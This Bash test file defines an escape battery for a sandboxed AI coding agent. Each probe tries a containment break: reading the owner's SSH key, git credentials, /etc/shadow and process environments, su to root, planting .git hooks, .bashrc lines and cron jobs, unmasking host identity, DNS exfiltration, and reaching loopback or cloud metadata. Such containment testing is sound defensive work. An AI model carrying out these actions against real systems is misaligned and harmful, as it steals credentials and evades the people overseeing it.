# SPDX-License-Identifier: MIT
# probes.sh: the escape battery's probes, sourced by battery.sh.
#
# One line of PROBES per probe: "id|category|expected verdict|blocked by|what the agent tries".
# For each id:
#   p_<id>  run as the agent. Exit 0 when the attempt WORKED (an escape: "open");
#           exit 10 after printing "BLOCKED <reason> [detail]" when it was refused, where
#           <reason> names HOW: an errno name (EACCES, ENOENT, ECONNREFUSED, EPERM...), an
#           HTTP status (HTTP-403), or a word for one exact outcome (other-content, hidden,
#           limited...); 77 = skip (reason on stdout); 78 = the attempt is done and root
#           judges the outcome afterwards with j_<id> PLACE (0 = it worked, 10 + BLOCKED
#           line = it did not).
#   c_<id>  the positive control, run as root (or as the owner through as_owner): the same
#           access by someone entitled to it must work, so a missing tool or a canary that
#           was never planted cannot pass for "blocked". Exit 0 = the control works.
# "blocked by" lists, comma-separated, the only reasons that count as blocked for this
# probe (p_ and j_ alike): the runner (battery.sh) calls anything else an error (a probe
# that crashed, timed out, lacked a tool, or failed in a way nobody declared), and an error
# is a failure. So an ENOENT for a file that should exist is never "blocked" where EACCES is
# the protection, and a probe cannot pass by breaking.
# Expected verdict: blocked | open | agentd=V,ssh=V (the places legitimately differ; each
# such difference is a documented gap, see docs/escape.md). "open" means the access works
# by design or is a known, documented exposure (the reason is in docs/escape.md).
#
# Canary facts come from $ESC_DIR/canaries.env (written by world.sh, world-readable,
# holding markers and pids but no secret it would be an escape to know).

PROBES=(
	# --- files and /proc
	"f-ssh-key|files|blocked|EACCES|read the owner's ~/.ssh/id_ed25519 (0600 in a 0700 dir)"
	"f-secret-0600|files|blocked|EACCES|read a 0600 secret file in the owner's 0755 home"
	"f-git-cred|files|blocked|EACCES|read the owner's ~/.git-credentials (0600)"
	"f-lax-0644|files|open|EACCES|read ~/.aws/credentials left 0644 in a 0755 home (doctor FAILs it)"
	"f-shadow|files|blocked|EACCES|read /etc/shadow"
	"f-etc-write|files|blocked|EACCES|create a file in /etc/ocsb"
	"f-authkeys|files|blocked|EACCES|append to the agent's root-owned authorized keys"
	"f-oc-password|files|blocked|EACCES|read OpenCode's password file under /var/lib/ocsb"
	"f-oc-log|files|blocked|EACCES|read agentd's OpenCode log under /var/log/ocsb"
	"f-owner-repo|files|blocked|EACCES|write into the owner's repository (.git/hooks)"
	"f-owner-rc|files|blocked|EACCES|append to the owner's ~/.bashrc"
	"f-su|files|blocked|su-auth-failure|become root with su"
	"f-group-rw|files|blocked|EACCES|write the owner's group-writable (0660) file"
	"p-environ|files|blocked|ENOENT|read the environment of the owner's process"
	"p-cmdline|files|blocked|ENOENT|read the secret on the owner's process command line"
	"p-owner-visible|files|blocked|hidden|see the owner's processes in /proc"
	"p-maps|files|blocked|ENOENT|read /proc/PID/maps of the owner's process (ptrace check)"
	"p-fd|files|blocked|ENOENT|list /proc/PID/fd of the owner's process"
	"p-root-environ|files|blocked|ENOENT|read the environment of a root process"
	"p-kill|files|blocked|EPERM|signal the owner's process"
	"p-prlimit|files|blocked|EPERM|change the owner's process limits (prlimit)"
	"id-machine-id|files|blocked|other-content|read the host's /etc/machine-id"
	"id-dbus-machine-id|files|blocked|other-content|read the host's /var/lib/dbus/machine-id"
	"id-boot-id|files|blocked|other-content|read the host's boot_id"
	"id-cmdline|files|blocked|other-content|read the host's kernel command line"
	"id-dmi|files|blocked|other-content|read DMI identifiers (/sys/class/dmi/id)"
	"id-umount|files|blocked|other-content|undo the masks: unshare -Urm, umount /etc/machine-id"
	"t-tmp|files|blocked|ENOENT|see the owner's file in /tmp"
	"t-shm|files|blocked|ENOENT|see the owner's file in /dev/shm"
	"t-runlock|files|blocked|ENOENT|see the owner's file in /run/lock (1777, shared like /tmp)"
	# --- local IPC
	"i-unix-tmp|ipc|blocked|ENOENT|connect to the owner's socket in /tmp/.X11-unix"
	"i-unix-home|ipc|blocked|EACCES|connect to the owner's socket in her home (0700 dir)"
	"i-abstract|ipc|blocked|EPERM|connect to the owner's abstract Unix socket"
	"i-dbus|ipc|blocked|ENOENT|call the owner's D-Bus session bus"
	"i-sysv-shm|ipc|blocked|EACCES|attach the owner's 0600 System V shared memory"
	"i-agentd-ctl|ipc|blocked|not-allowed|talk to ocsb-agentd's control socket"
	# --- network
	"n-direct|network|blocked|ECONNREFUSED|TCP to the internet (198.18.1.10:80) without the proxy"
	"n-direct-py|network|blocked|ECONNREFUSED|TCP to the internet from a program ignoring proxy variables"
	"n-lo-ssh|network|blocked|ECONNREFUSED|TCP to 127.0.0.1:22 (sshd)"
	"n-lo-owner|network|blocked|ECONNREFUSED|TCP to the owner's listener on 127.0.0.1"
	"n-lo-127-2|network|blocked|ECONNREFUSED|TCP to the owner's listener on 127.0.0.2"
	"n-lan|network|blocked|ECONNREFUSED|TCP to the owner's listener on the LAN address 198.18.0.1"
	"n-v6-lo|network|blocked|ECONNREFUSED|TCP to the owner's listener on [::1]"
	"n-v6-local|network|blocked|ECONNREFUSED|TCP to the owner's listener on a local IPv6 address"
	"n-v4mapped|network|blocked|ECONNREFUSED|TCP to ::ffff:127.0.0.1 (IPv4-mapped)"
	"n-dns-udp|network|blocked|EPERM|UDP 53 to the name server"
	"n-dns-tcp|network|blocked|ECONNREFUSED|TCP 53 to the name server"
	"n-udp|network|blocked|EPERM|UDP to the internet (not DNS)"
	"n-icmp|network|blocked|EPERM|ICMP echo to the internet"
	"n-raw|network|blocked|EPERM|open a raw IP socket"
	"n-packet|network|blocked|EPERM|open an AF_PACKET socket"
	"n-metadata|network|blocked|ECONNREFUSED|TCP to the cloud metadata address 169.254.169.254"
	"n-userns|network|blocked|ECONNREFUSED|TCP to the internet from a new user namespace"
	"n-userns-raw|network|blocked|EPERM|raw socket on the host's network from a user namespace"
	"n-proxy-ok|network|open|HTTP-403|reach an allowed host through the proxy (functional control)"
	# --- proxy abuse
	"x-loopback|proxy|blocked|HTTP-403|proxy to the owner's listener on 127.0.0.1"
	"x-localhost|proxy|blocked|HTTP-403|proxy to http://localhost:PORT/"
	"x-v6-lo|proxy|blocked|HTTP-403|proxy to the owner's listener on [::1]"
	"x-lan|proxy|blocked|HTTP-503|proxy to a service on the host's own non-private address (198.18.0.1:80)"
	"x-metadata|proxy|blocked|HTTP-403|proxy to the cloud metadata address"
	"x-blocked|proxy|blocked|HTTP-403|proxy to a host blocked by the rules"
	"x-connect-22|proxy|blocked|HTTP-403|CONNECT to port 22 through the proxy"
	"x-mgr|proxy|blocked|HTTP-403|squid cache manager pages (squid-internal-mgr)"
	"x-dns-exfil|proxy|open|not-resolved|a secret in a host name reaches DNS through the proxy (blocklist policy)"
	# --- ssh
	"s-rc|ssh|blocked|rc-not-run|~/.ssh/rc runs at the next login"
	"s-environment|ssh|blocked|env-not-set|~/.ssh/environment sets variables at the next login"
	"s-authkeys|ssh|blocked|publickey-denied|a key planted in ~/.ssh/authorized_keys logs in"
	"s-agent-fwd|ssh|blocked|no-agent-socket|use a forwarded ssh-agent"
	# --- git exchange
	"g-hostile|git|blocked|repo-unchanged|hostile branch content (filters, hooks, symlinks) changes the owner's repo on pull"
	"g-refname|git|blocked|ref-confined|a branch named to escape refs/remotes/AGENT/ lands elsewhere on pull"
	# --- mirror and secrets (features of other branches: skip while absent)
	"m-symlink|mirror|blocked|not-copied|swap a mirrored path for a symlink to the owner's secret"
	"k-secrets-home|secrets|blocked|not-in-home|find the agent's secrets in its home"
	# --- persistence
	"r-cron|persistence|blocked|cron-denied|install a crontab"
	"r-at|persistence|blocked|at-denied|queue an at job"
	"r-linger|persistence|blocked|killed|leave a process running after the agent is stopped"
	# --- resource exhaustion (bounded: limits are read, never exhausted)
	"e-nproc|exhaustion|blocked|limited|unlimited processes (RLIMIT_NPROC hard limit)"
	"e-core|exhaustion|blocked|limited|dump core files (RLIMIT_CORE hard limit)"
	"e-cgroup|exhaustion|blocked|limited|no memory/tasks cgroup limit (ssh sessions join OpenCode's cgroup)"
)

[ -r "$ESC_DIR/canaries.env" ] && . "$ESC_DIR/canaries.env"
: "${C_OWNER_KEY:=${C_OWNER_HOME:-}/.ssh/id_ed25519}"
# A login over ssh: a guest under software emulation on a busy host took over 10 s for one.
: "${C_SSH_TIMEOUT:=60}"
# su goes through PAM (a logind session for root's control): seconds in a slow guest.
: "${C_SU_TIMEOUT:=15}"

# ---- helpers (everything bounded by timeouts)
# A refusal, reported as the runner wants it: "BLOCKED <reason> [detail]", exit 10.
blocked() { printf 'BLOCKED %s\n' "$*"; return 10; }

# One Python program for every access that must name its errno precisely. Exit 0 = the
# access worked, 10 = refused (a BLOCKED line printed), anything else = the probe broke.
ESC_PY=$(cat <<'PY'
import errno, hashlib, os, re, socket, sys
def refused(reason, detail=""):
    print("BLOCKED", reason, detail); sys.exit(10)
def name(e):
    if isinstance(e, socket.timeout): return "ETIMEDOUT"
    return errno.errorcode.get(e.errno, "E%s" % e.errno)
def worked(what):
    print(what); sys.exit(0)
def readfile(path, rx):
    try:
        with open(path, "rb") as f: d = f.read()
    except OSError as e: refused(name(e), path)
    if re.search(rx.encode(), d, re.M): worked("read " + path)
    refused("other-content", "%s: %d bytes, not the canary" % (path, len(d)))
def talk(s, addr, rx, what, hello=b""):
    s.settimeout(3)
    try: s.connect(addr)
    except OSError as e: refused(name(e), "connect " + what)
    try:
        if hello: s.sendall(hello)
        d = s.recv(128)
    except OSError as e: refused("connected-" + name(e), "connected to %s, no answer" % what)
    if re.search(rx.encode(), d): worked("%s answered %r" % (what, d[:40]))
    refused("connected-other", "%s answered %r" % (what, d[:40]))
cmd, a = sys.argv[1], sys.argv[2:]
if cmd == "read":                       # PATH REGEX
    readfile(a[0], a[1])
elif cmd == "read-any":                 # DIR PREFIX SUFFIX REGEX: files named PREFIX*SUFFIX
    try: names = sorted(n for n in os.listdir(a[0]) if n.startswith(a[1]) and n.endswith(a[2]))
    except OSError as e: refused(name(e), "list " + a[0])
    if not names: print("no %s*%s in %s" % (a[1], a[2], a[0])); sys.exit(1)
    readfile(os.path.join(a[0], names[0]), a[3])
elif cmd == "write":                    # PATH create|append
    flags = os.O_WRONLY | (os.O_CREAT if a[1] == "create" else os.O_APPEND)
    try: fd = os.open(a[0], flags, 0o644)
    except OSError as e: refused(name(e), a[0])
    if a[1] == "append": os.write(fd, b"# escape\n")
    worked("opened %s for writing" % a[0])
elif cmd == "list":                     # DIR
    try: worked("%d entries in %s" % (len(os.listdir(a[0])), a[0]))
    except OSError as e: refused(name(e), a[0])
elif cmd == "sha256":                   # PATH HEX: the file's content has that digest
    try:
        with open(a[0], "rb") as f: d = f.read()
    except OSError as e: refused(name(e), a[0])
    if hashlib.sha256(d).hexdigest() == a[1]: worked("same " + a[0])
    refused("other-content", "%s differs from the host's" % a[0])
elif cmd == "tcp":                      # HOST PORT REGEX [http]: connected, the answer matched
    fam = socket.AF_INET6 if ":" in a[0] else socket.AF_INET
    hello = b"GET / HTTP/1.0\r\n\r\n" if a[3:] == ["http"] else b""
    talk(socket.socket(fam), (a[0], int(a[1])), a[2], "%s port %s" % (a[0], a[1]), hello)
elif cmd == "unix":                     # PATH|@ABSTRACT REGEX
    p = "\0" + a[0][1:] if a[0].startswith("@") else a[0]
    talk(socket.socket(socket.AF_UNIX), p, a[1], a[0])
elif cmd == "udp":                      # HOST PORT REGEX: a datagram, and an answer
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    try: s.sendto(b"q", (a[0], int(a[1])))
    except OSError as e: refused(name(e), "sendto %s port %s" % (a[0], a[1]))
    try: d = s.recv(128)
    except OSError as e: refused("recv-" + name(e), "no answer from %s port %s" % (a[0], a[1]))
    if re.search(a[2].encode(), d): worked("answer %r" % d[:40])
    refused("other-content", "answer %r" % d[:40])
elif cmd == "icmp":                     # HOST: an echo request and its reply
    import struct
    def ck(b):
        s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
        return ~s & 0xffff
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError as e1:
        try: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        except OSError as e2: refused(name(e2), "ping socket: %s; raw socket: %s" % (name(e1), name(e2)))
    s.settimeout(2)
    p = struct.pack("!BBHHH", 8, 0, 0, 0x4242, 1) + b"ocsb"; p = p[:2] + struct.pack("!H", ck(p)) + p[4:]
    try: s.sendto(p, (a[0], 0))
    except OSError as e: refused(name(e), "sendto " + a[0])
    try: worked("reply of %d bytes" % len(s.recv(128)))
    except OSError as e: refused("recv-" + name(e), "no reply from " + a[0])
elif cmd == "socket":                   # FAMILY TYPE PROTO (names in the socket module)
    try: socket.socket(getattr(socket, a[0]), getattr(socket, a[1]), int(a[2]))
    except OSError as e: refused(name(e), "socket(%s, %s)" % (a[0], a[1]))
    worked("socket(%s, %s) created" % (a[0], a[1]))
elif cmd == "kill":                     # PID
    try: os.kill(int(a[0]), 0)
    except OSError as e: refused(name(e), "kill -0 " + a[0])
    worked("signal 0 delivered to " + a[0])
elif cmd == "prlimit":                  # PID
    import resource
    try: resource.prlimit(int(a[0]), resource.RLIMIT_CORE, (0, 0))
    except OSError as e: refused(name(e), "prlimit " + a[0])
    worked("RLIMIT_CORE of %s changed" % a[0])
elif cmd == "shm":                      # KEY: attach a System V segment
    import ctypes
    l = ctypes.CDLL(None, use_errno=True); l.shmat.restype = ctypes.c_void_p
    i = l.shmget(int(a[0]), 0, 0)
    if i < 0: refused(errno.errorcode.get(ctypes.get_errno(), "?"), "shmget %s" % a[0])
    r = l.shmat(i, None, 0)
    if r in (None, ctypes.c_void_p(-1).value): refused(errno.errorcode.get(ctypes.get_errno(), "?"), "shmat")
    worked("attached segment %d" % i)
elif cmd == "agentd-ctl":               # SOCKET: a STATUS request on agentd's control socket
    import struct
    s = socket.socket(socket.AF_UNIX); s.settimeout(3)
    try: s.connect(a[0])
    except OSError as e: refused(name(e), "connect " + a[0])
    m, sent = b"OCSB/1 STATUS\n", None
    # agentd may answer and close before the request is sent (EPIPE): read its answer anyway.
    try: s.sendall(struct.pack(">I", len(m)) + m)
    except OSError as e: sent = e
    try: d = s.recv(4096)
    except OSError as e: refused("connected-" + name(e), a[0])
    if b"netlock" in d: worked("status answered")
    if b"ERR not allowed" in d: refused("not-allowed", "agentd answered %r" % d[4:70])
    if sent: refused("connected-" + name(sent), a[0])
    refused("closed" if not d else "connected-other", "answer %r" % d[:60])
elif cmd == "procs-of":                 # USER: a process of USER is visible in /proc
    import pwd
    uid, seen = pwd.getpwnam(a[0]).pw_uid, 0
    for p in os.listdir("/proc"):
        if not p.isdigit(): continue
        try: st = os.stat("/proc/" + p)
        except OSError: continue
        seen += 1
        if st.st_uid == uid: worked("pid %s of %s visible" % (p, a[0]))
    refused("hidden", "%d processes visible, none of %s" % (seen, a[0]))
elif cmd == "errno":                    # MESSAGE: the errno name whose strerror it is
    for n, c in errno.errorcode.items():
        if os.strerror(n).lower() == a[0].strip().lower(): print(c); sys.exit(0)
    print("unknown-error"); sys.exit(0)
else:
    print("probes.sh: unknown helper " + cmd); sys.exit(2)
PY
)
pyx() { timeout 8 /usr/bin/python3 -c "$ESC_PY" "$@"; }
# The errno name of a strerror text a tool printed ("Connection refused" -> ECONNREFUSED).
errno_of() { /usr/bin/python3 -c "$ESC_PY" errno "$1"; }
# curl_direct URL REGEX: a direct HTTP GET (no proxy); refused = the connect's errno.
curl_direct() {
	local out msg
	out=$(curl -sv --max-time 3 --noproxy '*' "$1" 2>&1)
	grep -q -- "$2" <<<"$out" && return 0
	msg=$(sed -n 's/^\* connect to .* failed: //p' <<<"$out" | head -n 1)
	[ -n "$msg" ] && { blocked "$(errno_of "$msg")" "curl: $msg"; return; }
	grep -q 'Connection timed out after' <<<"$out" && { blocked ETIMEDOUT "curl: timed out"; return; }
	printf '%s\n' "$out" | tail -n 3
	return 1
}
# viaproxy URL: a GET through the proxy; refused = the proxy's HTTP status (HTTP-403).
viaproxy() {
	local code rc
	# --noproxy '': the agent's no_proxy (localhost, 127.0.0.1, ::1) would send curl around
	# the proxy, straight into the netlock, and the proxy would never be tested.
	code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 --noproxy '' -x "http://$C_PROXY" "$@")
	rc=$?
	case $code in
	2??) return 0 ;;
	000 | '') echo "curl exit $rc, no HTTP answer from the proxy"; return 1 ;;
	*) blocked "HTTP-$code" "the proxy answered $code" ;;
	esac
}
as_owner() { setpriv --reuid="$C_OWNER" --regid="$C_OWNER" --init-groups --reset-env env -C "$C_OWNER_HOME" "$@"; }
as_agent() { setpriv --reuid="$C_AGENT" --regid="$C_AGENT" --init-groups --reset-env env -C / "$@"; }
owner_pyx() { as_owner timeout 8 /usr/bin/python3 -c "$ESC_PY" "$@" >/dev/null; }
has() { grep -q -- "$1" 2>/dev/null; }

# ---- files and /proc
p_f-ssh-key() { pyx read "$C_OWNER_HOME/.ssh/id_ed25519" PRIVATE; }
c_f-ssh-key() { owner_pyx read "$C_OWNER_HOME/.ssh/id_ed25519" PRIVATE; }
p_f-secret-0600() { pyx read "$C_OWNER_HOME/secret.txt" "$C_MARK"; }
c_f-secret-0600() { owner_pyx read "$C_OWNER_HOME/secret.txt" "$C_MARK"; }
p_f-git-cred() { pyx read "$C_OWNER_HOME/.git-credentials" "$C_MARK"; }
c_f-git-cred() { owner_pyx read "$C_OWNER_HOME/.git-credentials" "$C_MARK"; }
p_f-lax-0644() { pyx read "$C_OWNER_HOME/.aws/credentials" "$C_MARK"; }
c_f-lax-0644() { owner_pyx read "$C_OWNER_HOME/.aws/credentials" "$C_MARK"; }
p_f-shadow() { pyx read /etc/shadow '^root:'; }
c_f-shadow() { pyx read /etc/shadow '^root:' >/dev/null; }
p_f-etc-write() { pyx write "/etc/ocsb/escape-$C_PLACE" create; }
c_f-etc-write() { : >/etc/ocsb/escape-control && rm -f /etc/ocsb/escape-control; }
p_f-authkeys() { pyx write "/etc/ocsb/keys/$C_AGENT" append; }
c_f-authkeys() { test -w "/etc/ocsb/keys/$C_AGENT" && test -s "/etc/ocsb/keys/$C_AGENT"; }
p_f-oc-password() { pyx read-any /var/lib/ocsb/agentd '' .password .; }
c_f-oc-password() { pyx read-any /var/lib/ocsb/agentd '' .password . >/dev/null; }
p_f-oc-log() { pyx read-any /var/log/ocsb opencode- .log .; }
c_f-oc-log() { pyx read-any /var/log/ocsb opencode- .log . >/dev/null; }
p_f-owner-repo() { pyx write "$C_PROJECT/.git/hooks/post-checkout" create; }
c_f-owner-repo() { as_owner touch "$C_PROJECT/.git/hooks/escape-control" && rm -f "$C_PROJECT/.git/hooks/escape-control"; }
p_f-owner-rc() { pyx write "$C_OWNER_HOME/.bashrc" append; }
c_f-owner-rc() { as_owner test -w "$C_OWNER_HOME/.bashrc"; }
# su reads no password from /dev/null: PAM's "Authentication failure" is the refusal.
p_f-su() {
	local out
	out=$(timeout "$C_SU_TIMEOUT" su -c true root </dev/null 2>&1) && return 0
	case $out in *'Authentication failure'*) blocked su-auth-failure "su: Authentication failure" ;;
	*) printf '%s\n' "$out" | tail -n 2; return 1 ;; esac
}
c_f-su() { timeout "$C_SU_TIMEOUT" su -c true root </dev/null >/dev/null 2>&1; }
p_f-group-rw() { pyx write "$C_OWNER_HOME/group-rw.txt" append; }
c_f-group-rw() { as_owner test -w "$C_OWNER_HOME/group-rw.txt"; }
p_p-environ() { pyx read "/proc/$C_OWNER_PID/environ" "$C_MARK"; }
c_p-environ() { owner_pyx read "/proc/$C_OWNER_PID/environ" "$C_MARK"; }
p_p-cmdline() { pyx read "/proc/$C_OWNER_PID/cmdline" "$C_MARK"; }
c_p-cmdline() { owner_pyx read "/proc/$C_OWNER_PID/cmdline" "$C_MARK"; }
p_p-owner-visible() { pyx procs-of "$C_OWNER"; }
c_p-owner-visible() { pyx procs-of "$C_OWNER" >/dev/null; }
p_p-maps() { pyx read "/proc/$C_OWNER_PID/maps" .; }
c_p-maps() { owner_pyx read "/proc/$C_OWNER_PID/maps" .; }
p_p-fd() { pyx list "/proc/$C_OWNER_PID/fd"; }
c_p-fd() { owner_pyx list "/proc/$C_OWNER_PID/fd"; }
p_p-root-environ() { pyx read "/proc/$C_ROOT_PID/environ" "$C_MARK"; }
c_p-root-environ() { pyx read "/proc/$C_ROOT_PID/environ" "$C_MARK" >/dev/null; }
p_p-kill() { pyx kill "$C_OWNER_PID"; }
c_p-kill() { owner_pyx kill "$C_OWNER_PID"; }
p_p-prlimit() { pyx prlimit "$C_OWNER_PID"; }
c_p-prlimit() { owner_pyx prlimit "$C_OWNER_PID"; }
# The masks: the file is there and readable, with other content (the agent's fake identity).
p_id-machine-id() { pyx read /etc/machine-id "$C_MACHINE_ID"; }
c_id-machine-id() { pyx read /etc/machine-id "$C_MACHINE_ID" >/dev/null; }
p_id-dbus-machine-id() { pyx read /var/lib/dbus/machine-id "$C_MACHINE_ID"; }
c_id-dbus-machine-id() { pyx read /var/lib/dbus/machine-id "$C_MACHINE_ID" >/dev/null; }
p_id-boot-id() { pyx read /proc/sys/kernel/random/boot_id "$C_BOOT_ID"; }
c_id-boot-id() { pyx read /proc/sys/kernel/random/boot_id "$C_BOOT_ID" >/dev/null; }
p_id-cmdline() { pyx sha256 /proc/cmdline "$C_CMDLINE_SUM"; }
c_id-cmdline() { pyx sha256 /proc/cmdline "$C_CMDLINE_SUM" >/dev/null; }
# The product name is text, not a pattern ("Standard PC (i440FX + PIIX, 1996)" in QEMU).
dmi_re() { /usr/bin/python3 -c 'import re, sys; print(re.escape(sys.argv[1]))' "$C_DMI_NAME"; }
p_id-dmi() {
	[ -n "$C_DMI_NAME" ] || { echo "this machine has no DMI (/sys/class/dmi/id)"; return 77; }
	pyx read /sys/class/dmi/id/product_name "$(dmi_re)"
}
c_id-dmi() { [ -z "$C_DMI_NAME" ] || pyx read /sys/class/dmi/id/product_name "$(dmi_re)" >/dev/null; }
# Mounts inherited by a less privileged user namespace are locked together by the kernel:
# the umount fails and the mask stays. unshare itself failing proves nothing (an error).
p_id-umount() {
	local out
	out=$(timeout 5 unshare -Urm /bin/sh -c 'umount /etc/machine-id 2>&1; echo "umount-exit=$?"; cat /etc/machine-id' 2>&1)
	case $out in *"$C_MACHINE_ID"*) return 0 ;; esac
	grep -q '^umount-exit=' <<<"$out" || { printf 'unshare -Urm failed: %s\n' "$out" | head -n 2; return 1; }
	blocked other-content "the mask stayed: $(head -n 1 <<<"$out" | tr '\n' ' ')"
}
c_id-umount() { timeout 5 unshare -m sh -c 'umount /etc/machine-id 2>/dev/null; cat /etc/machine-id' | has "$C_MACHINE_ID"; }
# Private /tmp, /dev/shm and /run/lock: the owner's file does not exist in the agent's view (ENOENT is
# the protection here; the control proves the file was planted).
p_t-tmp() { pyx read /tmp/owner-canary.txt "$C_MARK"; }
c_t-tmp() { owner_pyx read /tmp/owner-canary.txt "$C_MARK"; }
p_t-shm() { pyx read /dev/shm/owner-canary "$C_MARK"; }
c_t-shm() { owner_pyx read /dev/shm/owner-canary "$C_MARK"; }
p_t-runlock() { pyx read /run/lock/owner-canary "$C_MARK"; }
c_t-runlock() { owner_pyx read /run/lock/owner-canary "$C_MARK"; }

# ---- local IPC
p_i-unix-tmp() { pyx unix /tmp/.X11-unix/X9 OWNER; }
c_i-unix-tmp() { owner_pyx unix /tmp/.X11-unix/X9 OWNER; }
p_i-unix-home() { pyx unix "$C_OWNER_HOME/.run/app.sock" OWNER; }
c_i-unix-home() { owner_pyx unix "$C_OWNER_HOME/.run/app.sock" OWNER; }
p_i-abstract() { pyx unix "@$C_ABSTRACT" OWNER; }
c_i-abstract() { owner_pyx unix "@$C_ABSTRACT" OWNER; }
dbus_list() {
	local out msg
	out=$(timeout 5 dbus-send --bus="$C_DBUS" --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames 2>&1)
	grep -q org.freedesktop.DBus <<<"$out" && ! grep -q '^Error' <<<"$out" && return 0
	msg=$(sed -n 's/.*Failed to connect to socket [^:]*: //p' <<<"$out" | head -n 1)
	[ -n "$msg" ] && { blocked "$(errno_of "$msg")" "dbus-send: $msg"; return; }
	msg=$(sed -n 's/^Error org\.freedesktop\.DBus\.Error\.\([A-Za-z]*\).*/\1/p' <<<"$out" | head -n 1)
	[ -n "$msg" ] && { blocked "dbus-$msg" "$(head -n 1 <<<"$out")"; return; }
	printf '%s\n' "$out" | head -n 2
	return 1
}
p_i-dbus() { dbus_list; }
c_i-dbus() { as_owner bash -c "$(declare -f dbus_list blocked errno_of); ESC_PY=\$1; C_DBUS='$C_DBUS' dbus_list" _ "$ESC_PY" >/dev/null; }
p_i-sysv-shm() { pyx shm "$C_SHM_KEY"; }
c_i-sysv-shm() { owner_pyx shm "$C_SHM_KEY"; }
p_i-agentd-ctl() { pyx agentd-ctl /run/ocsb/agentd.sock; }
c_i-agentd-ctl() { pyx agentd-ctl /run/ocsb/agentd.sock >/dev/null; }

# ---- network: the netlock rejects TCP with a reset (ECONNREFUSED at once) and the rest
# with an ICMP admin-prohibited (EPERM on send, for a local sender): never a time-out.
p_n-direct() { curl_direct http://198.18.1.10/ WEB; }
c_n-direct() { curl_direct http://198.18.1.10/ WEB >/dev/null; }
p_n-direct-py() { pyx tcp 198.18.1.10 80 WEB http; }
c_n-direct-py() { pyx tcp 198.18.1.10 80 WEB http >/dev/null; }
# IPv6 probes skip, with the reason, on a machine without IPv6 (world.sh: C_V6_LO).
v6_lo() { [ -n "${C_V6_LO:-}" ] || { echo "no IPv6 loopback (::1) here"; return 77; }; }
p_n-lo-ssh() { pyx tcp 127.0.0.1 22 SSH; }
c_n-lo-ssh() { pyx tcp 127.0.0.1 22 SSH >/dev/null; }
p_n-lo-owner() { pyx tcp 127.0.0.1 "$C_LPORT" OWNER; }
c_n-lo-owner() { owner_pyx tcp 127.0.0.1 "$C_LPORT" OWNER; }
p_n-lo-127-2() { pyx tcp 127.0.0.2 "$C_LPORT" OWNER; }
c_n-lo-127-2() { pyx tcp 127.0.0.2 "$C_LPORT" OWNER >/dev/null; }
p_n-lan() { pyx tcp 198.18.0.1 "$C_LPORT" OWNER; }
c_n-lan() { pyx tcp 198.18.0.1 "$C_LPORT" OWNER >/dev/null; }
p_n-v6-lo() { v6_lo || return; pyx tcp ::1 "$C_LPORT" OWNER; }
c_n-v6-lo() { pyx tcp ::1 "$C_LPORT" OWNER >/dev/null; }
p_n-v6-local() {
	[ -n "${C_V6_LOCAL:-}" ] || { echo "no local IPv6 address here (IPv6 off on veth-lan)"; return 77; }
	pyx tcp "$C_V6_LOCAL" "$C_LPORT" OWNER
}
c_n-v6-local() { pyx tcp "$C_V6_LOCAL" "$C_LPORT" OWNER >/dev/null; }
p_n-v4mapped() { v6_lo || return; pyx tcp ::ffff:127.0.0.1 22 SSH; }
c_n-v4mapped() { pyx tcp ::ffff:127.0.0.1 22 SSH >/dev/null; }
p_n-dns-udp() { pyx udp 198.18.0.53 53 CANARY; }
c_n-dns-udp() { pyx udp 198.18.0.53 53 CANARY >/dev/null; }
p_n-dns-tcp() { pyx tcp 198.18.0.53 53 CANARY; }
c_n-dns-tcp() { pyx tcp 198.18.0.53 53 CANARY >/dev/null; }
p_n-udp() { pyx udp 198.18.1.10 9999 CANARY; }
c_n-udp() { pyx udp 198.18.1.10 9999 CANARY >/dev/null; }
p_n-icmp() { pyx icmp 198.18.1.10; }
c_n-icmp() { pyx icmp 198.18.1.10 >/dev/null; }
p_n-raw() { pyx socket AF_INET SOCK_RAW 6; }
c_n-raw() { pyx socket AF_INET SOCK_RAW 6 >/dev/null; }
p_n-packet() { pyx socket AF_PACKET SOCK_RAW 0; }
c_n-packet() { pyx socket AF_PACKET SOCK_RAW 0 >/dev/null; }
p_n-metadata() { curl_direct http://169.254.169.254/ METADATA; }
c_n-metadata() { curl_direct http://169.254.169.254/ METADATA >/dev/null; }
# A user namespace changes nothing: the socket is still the agent's uid on the host's netns.
p_n-userns() { timeout 6 unshare -Ur /usr/bin/python3 -c "$ESC_PY" tcp 198.18.1.10 80 WEB http 2>&1; }
c_n-userns() { timeout 6 unshare -U /usr/bin/python3 -c "$ESC_PY" tcp 198.18.1.10 80 WEB http >/dev/null; }
# In a new user namespace the agent is "root" there, but raw sockets on the host's
# network namespace still need CAP_NET_RAW in the namespace's owner (the initial one).
p_n-userns-raw() { timeout 6 unshare -Ur /usr/bin/python3 -c "$ESC_PY" socket AF_INET SOCK_RAW 6 2>&1; }
c_n-userns-raw() { timeout 6 unshare -U true && c_n-raw; }
p_n-proxy-ok() { viaproxy http://allowed.test/ && curl -s --max-time 5 -x "http://$C_PROXY" http://allowed.test/ | has 'WEB allowed.test'; }
c_n-proxy-ok() { curl -s --max-time 5 --noproxy '*' http://allowed.test/ | has 'WEB allowed.test'; }

# ---- proxy abuse (the control reaches the same target directly, as root or the owner)
p_x-loopback() { viaproxy "http://127.0.0.1:$C_HPORT/"; }
c_x-loopback() { curl -s --max-time 3 --noproxy '*' "http://127.0.0.1:$C_HPORT/" | has OWNER; }
p_x-localhost() { viaproxy "http://localhost:$C_HPORT/"; }
c_x-localhost() { curl -s --max-time 3 --noproxy '*' "http://localhost:$C_HPORT/" | has OWNER; }
p_x-v6-lo() { v6_lo || return; viaproxy "http://[::1]:$C_HPORT/"; }
c_x-v6-lo() { curl -s --max-time 3 --noproxy '*' "http://[::1]:$C_HPORT/" | has OWNER; }
p_x-lan() { viaproxy "http://198.18.0.1:$C_HPORT/"; }
c_x-lan() { curl -s --max-time 3 --noproxy '*' "http://198.18.0.1:$C_HPORT/" | has OWNER; }
p_x-metadata() { viaproxy http://169.254.169.254/; }
c_x-metadata() { curl -s --max-time 3 --noproxy '*' http://169.254.169.254/ | has METADATA; }
p_x-blocked() { viaproxy http://blocked.test/; }
